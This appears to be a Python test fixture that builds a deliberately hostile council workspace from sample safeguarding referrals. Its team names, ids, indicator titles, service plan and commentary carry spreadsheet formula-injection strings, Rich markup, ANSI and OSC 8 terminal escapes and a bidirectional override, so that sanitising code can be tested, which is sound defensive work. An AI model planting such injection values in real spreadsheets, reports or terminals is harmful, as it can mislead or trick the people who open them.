"""A council workspace whose files were written by someone hostile: team names, ids,
service names, a local definition's titles, a comparator group, commentary and a service
plan holding spreadsheet formulas, rich markup and terminal escape sequences.

Built from the sample safeguarding referrals (LOC01's dataset), so every command has real
figures to work on; the hostile values replace the team, ids and service of Cardiff's and
Swansea's referrals, and two extra rows carry hostile values into the data-quality report.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parents[1]
CARDIFF, SWANSEA = "W06000015", "W06000011"

# Text a spreadsheet would run: OWASP's trigger characters, each at the start of a cell.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A2,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\tTab team",
]
# Text a terminal or rich would act on.
ESC_RED = "\x1b[31mRed\x1b[0m"
OSC8 = "\x1b]8;;http://example.invalid/\x1b\\Link\x1b]8;;\x1b\\"
BIDI = "Safe\u202eevil"
MARKUP = ["[/bold]Duty", "Adults [east]", "Team :bomb: [link=http://example.invalid]x[/link]"]
TERMINAL = [*MARKUP, f"Esc {ESC_RED}", f"Osc {OSC8}", BIDI, "C1 \x9b31mcsi"]
CONTROL_CHARACTERS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

TITLE = '=HYPERLINK("http://example.invalid","Click") [/bold]Duty \x1b[31mred'
GROUP = "=cities"


def _yaml_text(text: str) -> str:
    """A YAML double-quoted scalar holding `text` exactly (controls as escapes)."""
    out = []
    for char in text:
        if char in '"\\':
            out.append("\\" + char)
        elif ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F or 0x2028 <= ord(char) <= 0x206F:
            out.append(f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def hostile_referrals() -> str:
    """The sample referrals with hostile teams, ids and services in Cardiff and Swansea."""
    source = (REPO_ROOT / "sample_data" / "safeguarding_referrals.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(source)))
    cardiff = swansea = ids = 0
    for row in rows:
        if row["la_code"] == CARDIFF:
            row["team"] = FORMULAS[cardiff % len(FORMULAS)]
            cardiff += 1
            if "2023-04" <= row["received_at"][:7] <= "2024-03" and ids < 7:
                if ids < 6:
                    row["referral_id"] = f"={ids}+1"
                    row["person_id"] = f"@SUM({ids})"
                else:
                    row["service"] = "=service"  # an unknown code: a data-quality finding
                ids += 1
        elif row["la_code"] == SWANSEA:
            row["team"] = TERMINAL[swansea % len(TERMINAL)]
            swansea += 1
    fields = list(rows[0])
    extra = [
        # unreadable date and unknown council: their values reach the data-quality report
        dict(zip(fields, ["=9+9", "p1", CARDIFF, "=1+1", "", "adults", "Duty"], strict=True)),
        dict(
            zip(fields, ["r2", "p2", "@W06", "2023-06-01 10:00", "", "adults", "Duty"], strict=True)
        ),
        dict(
            zip(
                fields,
                ["r3", "p3", SWANSEA, f"2023-06-01{ESC_RED}", "", "adults", "Duty"],
                strict=True,
            )
        ),
    ]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    writer.writerows([*rows, *extra])
    return buffer.getvalue()


def local_definition() -> str:
    """LOC01 as a council's own MY01, with hostile titles."""
    text = (REPO_ROOT / "indicators" / "local" / "LOC01.yaml").read_text(encoding="utf-8")
    text = text.replace("id: LOC01", "id: MY01", 1)
    short, title = _yaml_text(TITLE), _yaml_text("Adults [east] " + TITLE)
    text = re.sub(r"(?m)^short_title: .*$", lambda _: f"short_title: {short}", text, count=1)
    text = re.sub(r"(?m)^title: .*$", lambda _: f"title: {title}", text, count=1)
    return text


PLAN = f"""title: {_yaml_text("Plan [/bold]" + ESC_RED)}
owner: {_yaml_text("=owner " + OSC8)}
year: 2023-24
objectives:
  - id: SAF1
    title: {_yaml_text("Adults [east] objective " + ESC_RED)}
    kind: process
    rationale: {_yaml_text("[/bold]Duty rationale " + BIDI)}
    indicators: [MY01]
    monitoring: {_yaml_text("Monthly " + OSC8)}
    actions:
      - {{action: {_yaml_text("[/red]act " + ESC_RED)}, owner: {_yaml_text("Adults [east]")}, due: 2023-06-30}}
    support: [{_yaml_text("[/bold]support")}]
"""


def make_workspace(root: Path) -> Path:
    """Write the hostile workspace under `root`; returns its folder."""
    workspace = root / "ws"
    for folder in ("data", "indicators", "plans", "commentary/2023-24", "out"):
        (workspace / folder).mkdir(parents=True, exist_ok=True)
    (workspace / "data" / "safeguarding_referrals.csv").write_text(
        hostile_referrals(), encoding="utf-8"
    )
    (workspace / "indicators" / "MY01.yaml").write_text(local_definition(), encoding="utf-8")
    (workspace / "plans" / "plan.yaml").write_text(PLAN, encoding="utf-8")
    (workspace / "commentary" / "2023-24" / "MY01.md").write_text(
        '=HYPERLINK("http://example.invalid") commentary\n', encoding="utf-8"
    )
    (workspace / "pm.yaml").write_text(
        f"council: Cardiff\ncomparator_group: {_yaml_text(GROUP)}\n"
        f"comparator_groups:\n  {_yaml_text(GROUP)}: [Cardiff, Swansea, Newport]\n",
        encoding="utf-8",
    )
    return workspace
